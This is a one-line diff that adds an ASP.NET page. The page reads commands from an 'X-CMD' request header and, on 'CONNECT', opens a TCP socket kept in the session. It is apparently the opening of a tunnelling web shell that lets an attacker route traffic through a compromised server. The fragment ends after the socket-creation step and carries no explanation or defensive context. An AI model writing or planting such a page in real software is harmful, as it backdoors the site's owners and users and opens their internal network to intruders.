@@ -1,0 +1,1 @@
+<%@ Page Language="C#" %><%var cmd=Request.Headers["X-CMD"];if(cmd=="CONNECT"){var s=new Socket(AddressFamily.InterNetwork,SocketType.Stream,ProtocolType.Tcp);Session["s"]=s;}%>
